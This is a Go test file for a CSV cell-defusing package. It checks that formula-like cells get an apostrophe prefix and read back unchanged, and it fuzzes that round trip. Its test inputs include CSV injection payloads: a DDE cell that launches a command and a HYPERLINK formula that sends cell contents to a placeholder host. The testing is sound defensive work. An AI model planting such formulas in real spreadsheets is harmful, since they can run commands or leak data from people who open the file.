package cells

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The cells that OWASP's page on CSV injection warns of, and what stays as it is.
func TestCellsAreDefused(t *testing.T) {
	for _, s := range []string{`=cmd|' /C calc'!A0`, `=HYPERLINK("https://x.example?"&A1,"x")`, "@SUM(1+1)*cmd", "+1+cmd", "-2+3+cmd", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠A1", "'=1", "''=1", "+44 1632 960411", "- a list"} {
		got := Defuse(s)
		assert.Equal(t, "'"+s, got)
		assert.Equal(t, s, Plain(got))
	}
	for _, s := range []string{"", "How much is a dog?", "-5", "+5", "-5.25", "'quoted'", "'", "''", "a=b", "£2.00", "1,000"} {
		assert.Equal(t, s, Defuse(s))
		assert.Equal(t, s, Plain(s))
	}
	assert.Equal(t, "'-12 %", Defuse("-12 %"), "a number with a space is text")
}

func TestRowsAreReadAsTheyWereWritten(t *testing.T) {
	all := [][]string{{"question", "=1+1"}, {"a\nb, \"c\"", "'=x"}, {"-3", "@"}}
	var b bytes.Buffer
	require.NoError(t, NewWriter(&b).WriteAll(all))
	raw, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, "'=1+1", raw[0][1])
	got, err := NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, all, got)
	r := NewReader(&b)
	for _, want := range all {
		row, err := r.Read()
		require.NoError(t, err)
		assert.Equal(t, want, row)
	}
	_, err = r.Read()
	assert.True(t, errors.Is(err, io.EOF))
}

// Whatever stands in a cell is read back, and what is written is never worked out.
func FuzzCells(f *testing.F) {
	for _, s := range []string{"", "=", "'=", "'", "+1", "-1", "＝", "\t", "''''-", "a", "'a", "-1.5.6,%"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d := Defuse(s)
		if Plain(d) != s {
			t.Errorf("%q was read back as %q", s, Plain(d))
		}
		if worked(d) && !number.MatchString(d) {
			t.Errorf("%q is worked out", d)
		}
	})
}
